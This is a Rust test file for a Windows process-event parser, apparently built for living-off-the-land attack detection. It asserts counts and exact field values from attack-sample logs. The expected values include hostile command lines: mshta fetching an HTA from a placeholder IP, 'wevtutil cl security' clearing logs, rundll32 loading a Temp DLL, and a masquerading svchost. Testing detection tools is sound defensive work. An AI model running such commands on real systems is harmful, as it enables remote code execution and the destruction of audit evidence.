//! Counts and golden records on the real data in ../shared.

mod common;
use common::{fixture, real, shared};
use lotl_events::read::InputFormat;
use lotl_events::{read_paths, EventSource, ProcessEvent, ReadOptions};

fn read(p: std::path::PathBuf) -> lotl_events::ReadOutcome {
    read_paths(&[p], &ReadOptions::default()).expect("read")
}

#[test]
fn evtx_attack_samples_counts() {
    let o = read(real("evtx-attack-samples"));
    let s = &o.stats.by_format[&InputFormat::Evtx];
    assert_eq!(s.files, 153);
    assert_eq!(o.stats.kept_by_source["sysmon-1"], 1491);
    assert_eq!(o.stats.kept_by_source["security-4688"], 42);
    assert_eq!(s.skipped_total() + s.kept, s.records);
}

#[test]
fn nxlog_counts() {
    let o = read(real("otrf-atomic/process_events.jsonl"));
    assert_eq!(o.events.len(), 1728);
    let o = read(real("splunk-attack-range/T1047_process_events.jsonl"));
    assert_eq!(o.events.len(), 335);
}

#[test]
fn corrupt_chunk_is_survived_and_counted() {
    let o = read(real("benign/workstation-sysmon.evtx"));
    assert_eq!(o.events.len(), 227);
    let s = &o.stats.by_format[&InputFormat::Evtx];
    assert!(s.skipped["corrupt EVTX chunk or record"] >= 1);
    let pings = o
        .events
        .iter()
        .filter(|e| {
            e.process_name.as_deref() == Some("PING.EXE")
                && e.process_command_line
                    .as_deref()
                    .is_some_and(|c| c.contains("-n 6 127.0.0.1"))
        })
        .count();
    assert_eq!(pings, 131);
}

#[test]
fn golden_sysmon_evtx_record() {
    let o = read(real(
        "evtx-attack-samples/Execution/Exec_sysmon_meterpreter_reversetcp_msipackage.evtx",
    ));
    let e = &o.events[0];
    assert_eq!(e.timestamp_ms, 1_556_664_539_151);
    assert_eq!(e.event_id, "2");
    assert_eq!(e.host_name, "IEWIN7");
    assert_eq!(e.source, Some(EventSource::Sysmon1));
    assert_eq!(e.process_pid, Some(1892));
    assert_eq!(
        e.process_entity_id.as_deref(),
        Some("{365abb72-d0db-5cc8-0000-0010488a3c00}")
    );
    assert_eq!(e.process_name.as_deref(), Some("VSSVC.exe"));
    assert_eq!(
        e.process_executable.as_deref(),
        Some(r"C:\Windows\System32\VSSVC.exe")
    );
    assert_eq!(
        e.process_command_line.as_deref(),
        Some(r"C:\Windows\system32\vssvc.exe")
    );
    assert_eq!(e.integrity_level.as_deref(), Some("system"));
    assert_eq!(e.parent_pid, Some(464));
    assert_eq!(e.parent_name.as_deref(), Some("services.exe"));
    assert_eq!(
        e.parent_command_line.as_deref(),
        Some(r"C:\Windows\system32\services.exe")
    );
    assert_eq!(e.user_name.as_deref(), Some("SYSTEM"));
    assert_eq!(e.user_domain.as_deref(), Some("NT AUTHORITY"));
    assert_eq!(e.user_id.as_deref(), Some("S-1-5-18"));
}

#[test]
fn golden_security_4688_evtx_record() {
    let o = read(real("deepbluecli/sliver-security.evtx"));
    let e = &o.events[0];
    assert_eq!(e.timestamp_ms, 1_684_434_500_172);
    assert_eq!(e.host_name, "VALKYRIE.galactica.cc");
    assert_eq!(e.source, Some(EventSource::Security4688));
    assert_eq!(e.event_action.as_deref(), Some("created-process"));
    assert_eq!(e.process_pid, Some(11748)); // NewProcessId 0x2de4
    assert_eq!(e.process_name.as_deref(), Some("wevtutil.exe"));
    assert_eq!(
        e.process_command_line.as_deref(),
        Some(r#""C:\WINDOWS\system32\wevtutil.exe" cl security"#)
    );
    assert_eq!(
        e.process_args,
        vec![r"C:\WINDOWS\system32\wevtutil.exe", "cl", "security"]
    );
    assert_eq!(e.integrity_level.as_deref(), Some("high"));
    assert_eq!(e.elevation_type.as_deref(), Some("full"));
    assert_eq!(e.elevated, None);
    assert_eq!(e.parent_pid, Some(6640));
    assert_eq!(
        e.parent_executable.as_deref(),
        Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
    );
    assert_eq!(e.user_name.as_deref(), Some("fgaeta"));
    assert_eq!(e.user_domain.as_deref(), Some("VALKYRIE"));
    assert_eq!(
        e.user_id.as_deref(),
        Some("S-1-5-21-1552841522-3835366585-4197357653-1002")
    );
}

#[test]
fn golden_nxlog_record() {
    let o = read(real("otrf-atomic/process_events.jsonl"));
    let e = &o.events[0];
    // UtcTime 2020-09-21 07:15:45.693 wins over the collector's @timestamp.
    assert_eq!(e.timestamp_ms, 1_600_672_545_693);
    assert_eq!(e.event_id, "2503123");
    assert_eq!(e.host_name, "WORKSTATION5.theshire.local");
    assert_eq!(e.source, Some(EventSource::Sysmon1));
    assert_eq!(
        e.process_executable.as_deref(),
        Some(r"C:\Windows\System32\schtasks.exe")
    );
    assert!(e
        .process_command_line
        .as_deref()
        .unwrap()
        .contains("/TN MordorSchtask"));
    assert_eq!(
        e.process_pe_original_file_name.as_deref(),
        Some("schtasks.exe")
    );
    assert_eq!(e.integrity_level.as_deref(), Some("medium"));
    assert_eq!(e.parent_pid, Some(7312));
    assert_eq!(
        e.parent_entity_id.as_deref(),
        Some("{b34bc01c-5253-5f68-9a14-000000000400}")
    );
    assert_eq!(e.parent_name.as_deref(), Some("powershell.exe"));
    assert_eq!(e.user_name.as_deref(), Some("pgustavo"));
    assert_eq!(e.user_domain.as_deref(), Some("THESHIRE"));
    // The writer's SID (UserID S-1-5-18, Sysmon itself) is not the process user's.
    assert_eq!(e.user_id, None);
}

#[test]
fn golden_elastic_defend_sample() {
    let o = read(shared().join("datasets/reference/ecs-samples/elastic-defend-process-start.json"));
    assert_eq!(o.events.len(), 1);
    let e: &ProcessEvent = &o.events[0];
    assert_eq!(e.source, Some(EventSource::ElasticDefend));
    assert_eq!(e.event_action.as_deref(), Some("start"));
    assert_eq!(e.integrity_level.as_deref(), Some("system"));
    assert_eq!(e.parent_name.as_deref(), Some("services.exe"));
    assert!(e.process_name.is_some() && e.process_executable.is_some());
    assert!(!e.host_name.is_empty());
}

#[test]
fn golden_winlogbeat_records() {
    let o = read(fixture("winlogbeat.ndjson"));
    let s = &o.stats.by_format[&InputFormat::EcsNdjson];
    assert_eq!((s.records, s.kept), (4, 2));
    assert_eq!(s.skipped["not a process start"], 1);
    assert_eq!(s.skipped["not a Windows host"], 1);
    let sysmon = &o.events[0];
    assert_eq!(sysmon.source, Some(EventSource::Sysmon1));
    assert_eq!(sysmon.event_id, "48213");
    assert_eq!(sysmon.timestamp_ms, 1_678_786_013_123);
    assert_eq!(sysmon.process_pid, Some(6412));
    assert_eq!(
        sysmon.process_pe_original_file_name.as_deref(),
        Some("PowerShell.EXE")
    );
    assert_eq!(sysmon.integrity_level.as_deref(), Some("high"));
    assert_eq!(sysmon.parent_name.as_deref(), Some("WINWORD.EXE"));
    assert_eq!(sysmon.user_name.as_deref(), Some("alice"));
    assert_eq!(
        sysmon.user_id, None,
        "winlog.user.identifier is Sysmon's own account"
    );
    let sec = &o.events[1];
    assert_eq!(sec.source, Some(EventSource::Security4688));
    assert_eq!(sec.event_id, "902211");
    assert_eq!(sec.process_name.as_deref(), Some("whoami.exe"));
    assert_eq!(sec.process_pid, Some(0x1a2c));
    assert_eq!(sec.parent_name.as_deref(), Some("cmd.exe"));
    assert_eq!(sec.parent_pid, Some(0xf04));
    assert_eq!(sec.elevation_type.as_deref(), Some("full"));
    assert_eq!(sec.integrity_level.as_deref(), Some("high"));
    assert_eq!(sec.user_name.as_deref(), Some("svc_backup"));
    assert_eq!(
        sec.user_id.as_deref(),
        Some("S-1-5-21-1004336348-1177238915-682003330-1107")
    );
}

#[test]
fn golden_mde_csv_records() {
    let o = read(fixture("mde-device-process-events.csv"));
    let s = &o.stats.by_format[&InputFormat::Csv];
    assert_eq!((s.records, s.kept), (3, 2));
    assert_eq!(s.skipped["missing process name or path"], 1);
    let e = &o.events[0];
    assert_eq!(e.source, Some(EventSource::Mde));
    assert_eq!(e.event_id, "18812");
    assert_eq!(e.timestamp_ms, 1_714_657_501_123);
    assert_eq!(e.host_name, "laptop-77.corp.example");
    assert_eq!(
        e.process_executable.as_deref(),
        Some(r"C:\Windows\System32\rundll32.exe")
    );
    assert_eq!(
        e.process_command_line.as_deref(),
        Some(r"rundll32.exe C:\Users\bob\AppData\Local\Temp\a.dll,DllRegisterServer")
    );
    assert_eq!(e.integrity_level.as_deref(), Some("medium"));
    assert_eq!(e.elevation_type.as_deref(), Some("limited"));
    assert_eq!(
        e.parent_command_line.as_deref(),
        Some(r#"mshta.exe "http://203.0.113.7/a.hta""#)
    );
    assert_eq!(e.user_id.as_deref(), Some("S-1-5-21-1-2-3-1104"));
    // A folder-only path is joined with the file name.
    let masq = &o.events[1];
    assert_eq!(
        masq.parent_executable.as_deref(),
        Some(r"C:\Windows\System32\rundll32.exe")
    );
    assert_eq!(
        masq.process_executable.as_deref(),
        Some(r"C:\Users\Public\svchost.exe")
    );
}
